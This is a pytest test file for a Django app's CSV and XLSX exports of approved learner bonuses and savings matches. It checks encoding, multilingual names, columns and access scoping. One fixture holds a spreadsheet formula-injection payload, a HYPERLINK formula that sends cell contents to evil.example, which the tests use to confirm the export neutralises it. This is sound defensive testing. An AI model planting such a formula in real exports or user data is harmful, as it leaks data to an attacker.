"""Payment files: a month's approved bonuses (and savings matches) as CSV that Excel opens with every script
intact and no formula run, and as XLSX with amounts as numbers — only the rows the user may see."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest

from core.spreadsheets import CURRENCY_FORMAT
from incentives import services
from incentives.models import Decision, MonthlyBonus, SavingsMatchRule
from people.models import Learner

from .admin_world import NO_ADMIN, ROLES, World, assert_turned_away_to_login, messages_of, signed_in
from .conftest import OCTOBER

pytestmark = pytest.mark.django_db

BONUS_CSV = "/admin/monthly-bonuses/export/csv/?month=2026-10"
BONUS_XLSX = "/admin/monthly-bonuses/export/xlsx/?month=2026-10"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def world(db):
    """October computed; Fatima (Arabic), 王秀英 (Chinese), María and a learner whose "name" is a formula
    approved; a paid row and a September row that must not appear in October's file."""
    world = World()
    world.compute()
    MonthlyBonus.objects.filter(learner=world.second_learner).update(status=Decision.ELIGIBLE, amount=Decimal("200"))
    formula = Learner.objects.create(partner=world.partner, full_name=FORMULA_NAME)
    MonthlyBonus.objects.create(
        learner=formula, partner=world.partner, rule=world.rule, month=OCTOBER, status=Decision.ELIGIBLE, amount=200
    )
    eligible = MonthlyBonus.objects.filter(month=OCTOBER, status=Decision.ELIGIBLE).values_list("pk", flat=True)
    services.approve_bonuses(bonus_ids=list(eligible), by=world.manager)
    paid = Learner.objects.create(partner=world.partner, full_name="Already Paid")
    MonthlyBonus.objects.create(
        learner=paid, partner=world.partner, rule=world.rule, month=OCTOBER, status=Decision.PAID, amount=200
    )
    september = Learner.objects.create(partner=world.partner, full_name="September Only")
    MonthlyBonus.objects.create(
        learner=september,
        partner=world.partner,
        rule=world.rule,
        month=datetime.date(2026, 9, 1),
        status=Decision.APPROVED,
        amount=200,
    )
    world.formula_learner = formula
    return world


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def download(client, user, url):
    response = signed_in(client, user).get(url)
    assert response.status_code == 200
    return response


# --- CSV ---------------------------------------------------------------------------------------------------


def test_the_csv_starts_with_the_utf8_byte_order_mark_and_ends_lines_with_crlf(client, world):
    content = download(client, world.manager, BONUS_CSV).content

    assert content.startswith(b"\xef\xbb\xbf")
    assert content.count(b"\r\n") == 5  # heading and four approved bonuses
    assert b"\n" not in content.replace(b"\r\n", b"")


def test_the_csv_keeps_arabic_and_chinese_names_exactly(client, world):
    rows = csv_rows(download(client, world.manager, BONUS_CSV))

    names = [row[1] for row in rows[1:]]
    assert "فاطمة الزهراء أحمد" in names
    assert "王秀英" in names
    assert "María José Pérez" in names


def test_the_csv_lists_the_columns_a_payment_office_needs(client, world):
    response = download(client, world.manager, BONUS_CSV)

    rows = csv_rows(response)
    assert rows[0] == ["Learner ID", "Full name", "Partner organization", "Month", "Amount", "Rule"]
    fatima = next(row for row in rows if row[1] == "فاطمة الزهراء أحمد")
    assert fatima == [
        str(world.learner.pk),
        "فاطمة الزهراء أحمد",
        "Northside Refugee Center",
        "2026-10",
        "200.00",
        "Training bonus",
    ]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="approved-bonuses-2026-10.csv"'


def test_a_name_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text(client, world):
    rows = csv_rows(download(client, world.manager, BONUS_CSV))

    assert [row[1] for row in rows if "HYPERLINK" in row[1]] == ["'" + FORMULA_NAME]


def test_the_file_holds_only_the_months_approved_bonuses(client, world):
    names = {row[1] for row in csv_rows(download(client, world.manager, BONUS_CSV))[1:]}

    assert names == {"فاطمة الزهراء أحمد", "王秀英", "María José Pérez", "'" + FORMULA_NAME}  # not paid, not September


# The neutralizing rule itself is tested once, in tests/core/test_spreadsheets.py.


# --- XLSX ------------------------------------------------------------------------------------------------------


def workbook_rows(response):
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return sheet, list(sheet.iter_rows(min_row=2))


def test_the_xlsx_opens_and_keeps_amounts_as_numbers_in_dollars(client, world):
    response = download(client, world.manager, BONUS_XLSX)

    sheet, rows = workbook_rows(response)
    fatima = next(row for row in rows if row[1].value == "فاطمة الزهراء أحمد")
    amount = fatima[4]
    assert amount.data_type == "n" and amount.value == 200
    assert amount.number_format == CURRENCY_FORMAT
    assert fatima[3].value == "2026-10"
    assert response["Content-Disposition"] == 'attachment; filename="approved-bonuses-2026-10.xlsx"'
    assert sum(row[4].value for row in rows) == 800


def test_the_xlsx_keeps_every_script_and_never_stores_a_formula(client, world):
    sheet, rows = workbook_rows(download(client, world.manager, BONUS_XLSX))

    names = {row[1].value for row in rows}
    assert {"فاطمة الزهراء أحمد", "王秀英", FORMULA_NAME} <= names
    formula_cell = next(row[1] for row in rows if row[1].value == FORMULA_NAME)
    assert formula_cell.data_type == "s"


# --- scoping and savings --------------------------------------------------------------------------------------


def test_partner_staff_get_only_their_partners_bonuses(client, world):
    ours = {row[1] for row in csv_rows(download(client, world.partner_staff, BONUS_CSV))[1:]}
    client.logout()
    theirs = {row[1] for row in csv_rows(download(client, world.other_partner_staff, BONUS_CSV))[1:]}

    assert "María José Pérez" not in ours and "فاطمة الزهراء أحمد" in ours
    assert theirs == {"María José Pérez"}


def test_a_manager_can_download_one_partners_file(client, world):
    rows = csv_rows(download(client, world.manager, f"{BONUS_CSV}&partner={world.other_partner.pk}"))

    assert [row[1] for row in rows[1:]] == ["María José Pérez"]


def test_approved_savings_matches_have_their_own_file(client, world):
    rule = SavingsMatchRule.objects.create(
        name="Household savings match", monthly_cap=Decimal("100"), active_from=datetime.date(2026, 1, 1)
    )
    deposit = services.record_savings_deposit(
        learner=world.learner, rule=rule, month=OCTOBER, deposit=Decimal("250"), by=world.partner_staff
    )
    services.approve_savings(deposit_ids=[deposit.pk], by=world.manager)

    response = download(client, world.manager, "/admin/savings-deposits/export/csv/?month=2026-10")

    assert response["Content-Disposition"] == 'attachment; filename="approved-savings-matches-2026-10.csv"'
    assert csv_rows(response)[1:] == [
        [
            str(world.learner.pk),
            "فاطمة الزهراء أحمد",
            "Northside Refugee Center",
            "2026-10",
            "100.00",
            "Household savings match",
        ]
    ]


@pytest.mark.parametrize("role", ROLES)
def test_only_partner_staff_and_managers_download_payment_files(client, world, role):
    response = signed_in(client, world.user(role)).get(BONUS_CSV)

    if role in NO_ADMIN:
        assert_turned_away_to_login(response)
    else:
        assert response.status_code == 200


def test_a_file_without_a_month_sends_the_manager_back_with_a_message(client, world):
    response = signed_in(client, world.manager).get("/admin/monthly-bonuses/export/csv/?month=October", follow=True)

    assert response.redirect_chain[-1][0] == "/admin/monthly-bonuses/"
    assert "Choose a month for the payment file." in messages_of(response)


def test_an_unknown_file_format_is_not_found(client, world):
    assert signed_in(client, world.manager).get("/admin/monthly-bonuses/export/pdf/?month=2026-10").status_code == 404
